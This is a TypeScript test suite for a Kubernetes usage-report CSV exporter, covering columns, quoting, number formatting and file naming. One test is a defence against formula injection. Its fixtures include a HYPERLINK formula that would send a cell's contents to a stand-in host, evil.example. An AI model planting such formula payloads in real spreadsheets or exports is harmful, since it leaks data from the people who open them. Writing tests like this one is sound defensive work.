import { parse } from 'csv-parse/sync';

import { UsageFigures, UsageReport } from '@kube-monitoring/contract';

import { usageCsvFileName, usageReportCsv } from './usage-csv';

function figures(overrides: Partial<UsageFigures> = {}): UsageFigures {
  return {
    cpu_core_hours: 12.5,
    cpu_cores_average: 0.520833,
    cpu_cores_peak: 2,
    memory_gib_hours: 48,
    memory_gib_average: 2,
    memory_gib_peak: 3.25,
    gpu_memory_gb_hours: 0,
    gpu_memory_gb_average: 0,
    gpu_memory_gb_peak: 0,
    coverage: 1,
    cpu_request_core_hours: 25,
    memory_request_gib_hours: 96,
    cpu_efficiency: 0.5,
    memory_efficiency: 0.5,
    gpu_hours: 0,
    billed_cpu_core_hours: 12.5,
    billed_memory_gib_hours: 48,
    billed_gpu_hours: 0,
    ...overrides,
  };
}

function report(overrides: Partial<UsageReport> = {}): UsageReport {
  return {
    from: '2017-12-01T00:00:00.000Z',
    to: '2018-01-01T00:00:00.000Z',
    groupBy: 'namespace',
    basis: 'usage',
    step_seconds: 60,
    sources: [{ from: '2017-12-01T00:00:00.000Z', to: '2018-01-01T00:00:00.000Z', source: 'live' }],
    rows: [
      { namespace_name: 'lab-vision', pods: 3, ...figures() },
      { namespace_name: 'team-web', pods: 1, ...figures({ cpu_core_hours: 0.0000004, coverage: 0.25 }) },
    ],
    totals: figures(),
    generated_at: '2018-01-01T06:00:00.000Z',
    ...overrides,
  };
}

describe('usageReportCsv', () => {
  it('should give by node the node first, the namespace column naming the idle rows', () => {
    const rows = parse(
      usageReportCsv(
        report({
          groupBy: 'node',
          rows: [
            { node_name: 'gpu-1', pods: 4, ...figures() },
            { namespace_name: '__idle__', node_name: 'gpu-1', pods: 0, ...figures({ cpu_core_hours: 3 }), overcommit_cpu_core_hours: 0 },
          ],
        }),
      ),
    ) as string[][];
    expect(rows[0]?.slice(0, 6)).toEqual(['period_from_utc', 'period_to_utc', 'node', 'namespace', 'pods', 'cpu_core_hours']);
    expect(rows[1]?.slice(2, 6)).toEqual(['gpu-1', '', '4', '12.5']);
    expect(rows[2]?.slice(2, 6)).toEqual(['gpu-1', '__idle__', '0', '3']);
  });

  it('should start with a header naming each figure with its unit', () => {
    const [header] = usageReportCsv(report()).split('\r\n');
    expect(header).toBe(
      'period_from_utc,period_to_utc,namespace,pods,cpu_core_hours,cpu_cores_average,cpu_cores_peak,memory_gib_hours,memory_gib_average,' +
        'memory_gib_peak,gpu_memory_gb_hours,gpu_memory_gb_average,gpu_memory_gb_peak,coverage_fraction,cpu_request_core_hours,memory_request_gib_hours,' +
        'cpu_efficiency,memory_efficiency,gpu_hours,billed_cpu_core_hours,billed_memory_gib_hours,billed_gpu_hours,overcommit_cpu_core_hours,' +
        'overcommit_memory_gib_hours,overcommit_gpu_hours',
    );
  });

  it('should write one CRLF-terminated row per group and no totals row', () => {
    const csv = usageReportCsv(report());
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n').filter(Boolean)).toHaveLength(3);
    expect(csv).not.toMatch(/[^\r]\n/);
  });

  it('should write one row per step and group, the step’s dates first, when asked with a step', () => {
    const step = (from: string, to: string, cpu: number) => ({
      from,
      to,
      rows: [{ namespace_name: 'lab-vision', pods: 3, ...figures({ cpu_core_hours: cpu }) }],
      totals: figures(),
    });
    const csv = usageReportCsv(
      report({ step: '1d', steps: [step('2017-12-01T00:00:00.000Z', '2017-12-02T00:00:00.000Z', 1), step('2017-12-02T00:00:00.000Z', '2017-12-03T00:00:00.000Z', 2)] }),
    );
    const rows = parse(csv) as string[][];
    expect(rows.slice(1).map((r) => [r[0], r[1], r[2], r[4]])).toEqual([
      ['2017-12-01T00:00:00.000Z', '2017-12-02T00:00:00.000Z', 'lab-vision', '1'],
      ['2017-12-02T00:00:00.000Z', '2017-12-03T00:00:00.000Z', 'lab-vision', '2'],
    ]);
  });

  it('should write pod reports with a pod column', () => {
    const csv = usageReportCsv(report({ groupBy: 'pod', rows: [{ namespace_name: 'lab-vision', pod_name: 'train-1', ...figures() }] }));
    const [record] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(record).toMatchObject({ namespace: 'lab-vision', pod: 'train-1', cpu_core_hours: '12.5' });
    expect(record).not.toHaveProperty('pods');
  });

  it('should quote fields holding a comma, a quote or a line break (RFC 4180)', () => {
    const csv = usageReportCsv(report({ groupBy: 'pod', rows: [{ namespace_name: 'a,b', pod_name: 'say "hi"\nthere', ...figures() }] }));
    expect(csv).toContain('"a,b","say ""hi""\nthere"');
    const [record] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(record).toMatchObject({ namespace: 'a,b', pod: 'say "hi"\nthere' });
  });

  it('should write names that start like a spreadsheet formula as text, in every text column', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1'];
    const rows = hostile.map((name) => ({ namespace_name: name, pod_name: name, ...figures() }));
    const [, ...records] = parse(usageReportCsv(report({ groupBy: 'pod', rows }))) as string[][];
    expect(records.map((r) => [r[2], r[3]])).toEqual(hostile.map((name) => [`'${name}`, `'${name}`]));
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('should write plain decimals, never exponents', () => {
    const [, , second] = usageReportCsv(report()).split('\r\n');
    expect(second).toContain(',0,');
    expect(second).not.toMatch(/e-?\d/i);
    expect(second).toContain(',0.25,');
    expect(second?.endsWith(',0.0000004,48,0')).toBe(false);
    expect(second?.endsWith(',12.5,48,0,,,')).toBe(true);
  });

  it('should leave an efficiency without a request empty, never write "null"', () => {
    const csv = usageReportCsv(report({ rows: [{ namespace_name: 'best-effort', pods: 1, ...figures({ cpu_request_core_hours: 0, cpu_efficiency: null }) }] }));
    const [record] = parse(csv, { columns: true }) as Record<string, string>[];
    expect(record).toMatchObject({ cpu_request_core_hours: '0', cpu_efficiency: '', memory_efficiency: '0.5' });
    expect(csv).not.toContain('null');
  });
});

describe('usageCsvFileName', () => {
  it('should name the grouping and the period, without colons', () => {
    expect(usageCsvFileName(report())).toBe('usage-by-namespace-2017-12-01T00-00-00Z-2018-01-01T00-00-00Z.csv');
  });
});
